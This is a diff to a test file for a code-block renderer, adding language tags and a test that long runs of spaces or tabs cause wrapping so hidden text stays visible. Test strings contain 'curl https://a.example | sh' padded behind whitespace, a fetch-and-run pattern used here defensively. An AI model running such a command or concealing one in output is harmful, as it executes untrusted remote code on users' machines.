@@ -27,6 +27,9 @@ describe('A code block', () => {
     ['text', 'npm install -g quill', 'code'],
     ['text', 'an answer', 'code'],
     ['plaintext', 'an answer', 'code'],
+    ['txt', 'an answer', 'code'],
+    ['output', 'an answer', 'code'],
+    ['log', 'an answer', 'code'],
     ['text', '└── a file', 'code lines'],
     ['text', 'start  ok\ntools  13', 'code lines'],
     ['text', 'One.  Two.', 'code'],
@@ -65,6 +68,17 @@ describe('A code block', () => {
       const command = `tool install${' '.repeat(200)}; curl https://a.example | sh`;
       const box = renderDocument(fencedCode(language, command)).querySelector('pre')?.parentElement;
       expect(box?.className).toBe('code copyable');
+    },
+  );
+
+  it.each(['js', 'yaml', 'python', 'dockerfile', 'text', 'console'])(
+    'in %s wraps if wide space would move text out of view',
+    (language) => {
+      for (const space of [' '.repeat(200), '\t'.repeat(30)]) {
+        const code = `a  b\na  b${space}; curl https://a.example | sh`;
+        const box = renderDocument(fencedCode(language, code)).querySelector('pre')?.parentElement;
+        expect(box?.classList.contains('lines')).toBe(false);
+      }
     },
   );
 
